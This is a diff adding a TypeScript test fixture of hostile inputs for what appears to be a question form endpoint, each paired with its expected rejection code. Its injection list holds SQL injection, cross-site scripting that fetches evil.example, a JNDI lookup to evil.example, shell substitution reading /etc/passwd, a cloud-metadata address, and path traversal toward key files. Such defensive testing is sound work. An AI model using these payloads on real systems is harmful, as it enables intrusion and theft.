@@ -1,0 +1,138 @@
+import { answers } from '../question-form.ts';
+import {
+  asked,
+  bad,
+  body,
+  filled,
+  json,
+  noAddress,
+  noForm,
+  noText,
+  notOffered,
+  pairs,
+  planted,
+  strange,
+  unreadable,
+  urlencoded,
+  foreign,
+  type Hostile,
+} from './hostile-input.ts';
+
+const noPhone: [number, string] = [422, 'LT-FORM-005'];
+const noUnit: [number, string] = [422, 'LT-FORM-007'];
+
+/** Characters that show something else than what stands there, or command a terminal, a mail server, a log. */
+const characters: [string, number][] = [
+  ['that rings', 0x07],
+  ['that steps back', 0x08],
+  ['of a vertical tab', 0x0b],
+  ['of a new page', 0x0c],
+  ['that shifts out', 0x0e],
+  ['that deletes', 0x7f],
+  ['of a next line', 0x85],
+  ['of a command in one byte', 0x9b],
+  ['of a line end of its own', 0x2028],
+  ['of a paragraph of its own', 0x2029],
+  ['that embeds to the right', 0x202a],
+  ['that embeds to the left', 0x202b],
+  ['that ends an embedding', 0x202c],
+  ['that turns to the right', 0x202d],
+  ['that isolates to the right', 0x2066],
+  ['that isolates to the left', 0x2067],
+  ['that isolates what follows', 0x2068],
+  ['that ends an isolation', 0x2069],
+  ['of a broken encoding', 0xfffd],
+];
+
+const injections: [string, string][] = [
+  ['SQL that ends the statement', `'; DROP TABLE cases; --`],
+  ['SQL that joins another table', `x' UNION SELECT secret FROM cases --`],
+  ['SQL that waits', `1 AND SLEEP(10)`],
+  ['a NoSQL operator as text', `{"$gt":""}`],
+  ['a script', `<script>fetch('//evil.example')</script>`],
+  ['a picture with a script', `"><img src=x onerror=alert(1)>`],
+  ['a drawing with a script', `<svg/onload=alert(1)>`],
+  ['an address of a script', `javascript:alert(1)`],
+  ['a template', `{{constructor.constructor('return process')()}}`],
+  ['a template literal', '${process.env.PAYLOAD_SECRET}'],
+  ['a lookup of a logger', '${jndi:ldap://evil.example/a}'],
+  ['a shell command', `$(cat /etc/passwd)`],
+  ['a shell command in back-ticks', '`id`'],
+  ['a formula', `=HYPERLINK("http://evil.example","x")`],
+  ['a server include', `<!--#exec cmd="id" -->`],
+  ['a path of Windows', String.raw`..\..\windows\win.ini`],
+  ['an address of the machine', `http://169.254.169.254/latest/meta-data/`],
+  ['a filter of a directory', `*)(uid=*))(|(uid=*`],
+];
+
+/** Values: right in kind and size, wrong in what they would do elsewhere. */
+export const hostileValues: Hostile[] = [
+  ...characters.map(([what, code]) =>
+    bad(`a character ${what}`, filled({ name: `An ${String.fromCodePoint(code)} Nhiên` }), noText),
+  ),
+  ...injections.map(([what, text]) => bad(`${what} for a choice`, filled({ field: text }), notOffered)),
+  // E-mail
+  bad('an address without a host', filled({ email: 'a@' }), noAddress),
+  bad('an address without a name', filled({ email: '@example.vn' }), noAddress),
+  bad('an address of a bare machine', filled({ email: 'a@localhost' }), noAddress),
+  bad('an address of a number', filled({ email: 'a@[127.0.0.1]' }), noAddress),
+  bad('an address with an empty label', filled({ email: 'a@example..vn' }), noAddress),
+  bad('an address of a host that begins with a dash', filled({ email: 'a@-oProxyCommand.vn' }), noAddress),
+  bad('an address with a comment', filled({ email: 'a(x)@example.vn' }), noAddress),
+  bad('an address in quotes', filled({ email: '"a b"@example.vn' }), noAddress),
+  bad('a name too long for mail', filled({ email: `${'a'.repeat(65)}@example.vn` }), noAddress),
+  bad('a host too long for mail', filled({ email: `a@${'b.'.repeat(100)}vn` }), noAddress),
+  bad('a recipient more, after a line', filled({ email: 'a@example.vn\r\nRCPT TO:<b@example.vn>' }), noText),
+  // Telephone
+  bad('letters for a number', filled({ phone: 'không có' }), noPhone),
+  bad('a number with SQL', filled({ phone: `0912345678' OR '1'='1` }), noPhone),
+  bad('a number too short', filled({ phone: '113' }), noPhone),
+  bad('a number too long', filled({ phone: '0'.repeat(400) }), noPhone),
+  bad('digits of another width', filled({ phone: '０９１２３４５６７８' }), noPhone),
+  bad('a number that dials on', filled({ phone: '0912345678,,,#1' }), noPhone),
+  bad('a number as an address', filled({ phone: 'tel:+84912345678' }), noPhone),
+  // Unit
+  bad('a unit that is none', filled({ unit: '00000' }), noUnit),
+  bad('a unit with a wildcard', filled({ unit: '%' }), noUnit),
+  bad('a unit and more', filled({ unit: '19753 OR 1=1' }), noUnit),
+  bad('two units', filled({ unit: ['19753', '19753'] }), [422, 'LT-FORM-010']),
+  // Versions and members
+  bad('a version below nothing', body({ version: -2 }), unreadable),
+  bad('no version at all: zero', body({ version: 0 }), unreadable),
+  bad('a version as a truth', body({ version: true }), unreadable),
+  bad('a version as a list', body({ version: [2] }), unreadable),
+  bad('a version to come', body({ version: 3 }), [409, 'LT-FORM-021']),
+  bad(
+    'the version twice in JSON',
+    body().replace('{', '{"version":2,').replace('"version":2,"answers"', '"version":1,"answers"'),
+    [409, 'LT-FORM-021'],
+  ),
+  bad('an old version in a form', urlencoded('').replace('_version=2', '_version=1'), [409, 'LT-FORM-021'], pairs),
+  bad('a version in words in a form', urlencoded('').replace('_version=2', '_version=two'), unreadable, pairs),
+  bad('a control of the form as a field', filled({ _version: '2' }), strange),
+  bad('a number that is none', '{"version":NaN}', unreadable),
+  bad('JSON with a comment', `/* ${planted} */ ${body()}`, unreadable),
+  bad('JSON with a comma too many', body().replace(/}$/, ',}'), unreadable),
+  bad('JSON in single quotes', body().replaceAll('"', `'`), unreadable),
+  bad('JSON after a guard', `)]}',\n${body()}`, unreadable),
+  bad('answers as a text', body({ answers: JSON.stringify({ ...answers, question: asked }) }), unreadable),
+  bad('a truth for a text', filled({ consent: true }), unreadable),
+  bad('a list with an object', filled({ field: [{ $ne: 1 }] }), unreadable),
+  // Where it comes from, once more
+  ...[
+    'https://evil.example?hue.localhost',
+    'https://x.hue.localhost',
+    'file://',
+    'data:text/html,x',
+    'hue.localhost',
+  ].map((origin) => bad(`a page of ${origin}`, body(), foreign, { ...json, origin, 'sec-fetch-site': '' })),
+  ...[
+    'hoi-dap.json',
+    '....%2f%2f_sealing%2fkeys',
+    '%c0%ae%c0%ae%2fkeys',
+    'hoi-dap%3bx',
+    'con',
+    '-hoi-dap',
+    'h%E1%BB%8Fi-%C4%91%C3%A1p',
+  ].map((form): Hostile => ({ ...bad(`a form called ${form}`, body(), noForm), form })),
+];
